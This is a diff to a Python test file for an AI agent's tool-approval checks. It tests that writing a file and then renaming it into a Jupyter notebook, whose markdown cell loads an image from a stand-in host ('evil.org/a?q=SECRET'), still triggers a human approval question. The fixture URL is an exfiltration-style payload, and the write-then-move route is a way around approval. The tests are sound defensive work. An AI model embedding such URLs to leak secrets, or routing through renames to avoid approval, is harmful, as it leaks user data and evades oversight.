@@ -22,6 +22,7 @@ if TYPE_CHECKING:
 pytestmark = pytest.mark.asyncio
 
 ADDRESS = "http://evil.org/a?q=SECRET"
+BOOK = json.dumps({"cells": [{"cell_type": "markdown", "source": f"![]({ADDRESS})"}], "nbformat": 4})
 EVERYTHING: dict[str, Any] = {"toolCall": {"approval": {"byDefault": "allow"}}}
 
 
@@ -66,12 +67,15 @@ async def test_an_approval_for_the_session_does_not_let_a_markdown_cell_load_an_
             "tool": "notebook_create",
             "arguments": {"path": "new.ipynb", "cells": [{"cell_type": "markdown", "source": f"![]({ADDRESS})"}]},
         },
+        {"tool": "write_file", "arguments": {"path": "new.ipynb", "content": BOOK}},
+        {"tool": "move_file", "arguments": {"source": "draft.txt", "destination": "new.ipynb"}},
     ],
 )
 async def test_neither_rules_nor_trust_lift_the_question_about_what_a_cell_loads(
     tmp_path: Path, change: dict[str, Any]
 ) -> None:
     before = "![](PLACE//evil.org/a?q=SECRET)"
+    (tmp_path / "draft.txt").write_text(BOOK)
     async with room(tmp_path, text("t", before), **EVERYTHING) as there:
         there.table.host.turns.choose("chat", Choice(trust=True))
         received = await ask(there, change, person=Person(0))
@@ -110,3 +114,34 @@ async def test_an_edit_of_a_cell_that_was_not_there_when_it_was_decided_loads_no
         assert edited.error
         assert "Nobody was asked about that" in result(edited)
         assert [source for _, source in there.page.cells()] == ["x = 1", "PLACE"]
+
+
+async def test_a_file_that_was_not_there_when_it_was_decided_becomes_no_notebook_that_loads_something(
+    tmp_path: Path,
+) -> None:
+    async with room(tmp_path, code("a", "x = 1"), **EVERYTHING) as there:
+        (there.table.folder / "draft.txt").write_text("{}")
+        await there.call("read_file", path="draft.txt")
+        both: list[dict[str, Any]] = [
+            {"tool": "write_file", "arguments": {"path": "draft.txt", "content": BOOK}},
+            {"tool": "move_file", "arguments": {"source": "draft.txt", "destination": "new.ipynb"}},
+        ]
+        received = await there.ask(both, lambda _: CallDecision(approved=True))
+        written, moved = called(received)
+        assert not written.error
+        assert "Nobody was asked about that" in result(moved)
+        assert not (there.table.folder / "new.ipynb").exists()
+
+
+async def test_files_that_are_no_notebooks_and_notebooks_that_load_nothing_are_not_asked_about(tmp_path: Path) -> None:
+    async with room(tmp_path, code("a", "x = 1"), **EVERYTHING) as there:
+        (there.table.folder / "old.ipynb").write_text(BOOK)
+        calls: tuple[dict[str, Any], ...] = (
+            {"tool": "write_file", "arguments": {"path": "notes.md", "content": f"![]({ADDRESS})"}},
+            {"tool": "write_file", "arguments": {"path": "new.ipynb", "content": BOOK.replace("![]", "[a]")}},
+            {"tool": "move_file", "arguments": {"source": "old.ipynb", "destination": "other.ipynb"}},
+            {"tool": "move_file", "arguments": {"source": "notes.md", "destination": "more.md"}},
+        )
+        assert list_questions(await ask(there, *calls, person=Person(0))) == []
+        assert {path.name for path in there.table.folder.glob("*.ipynb")} == {"new.ipynb", "other.ipynb"}
+        assert (there.table.folder / "more.md").exists()
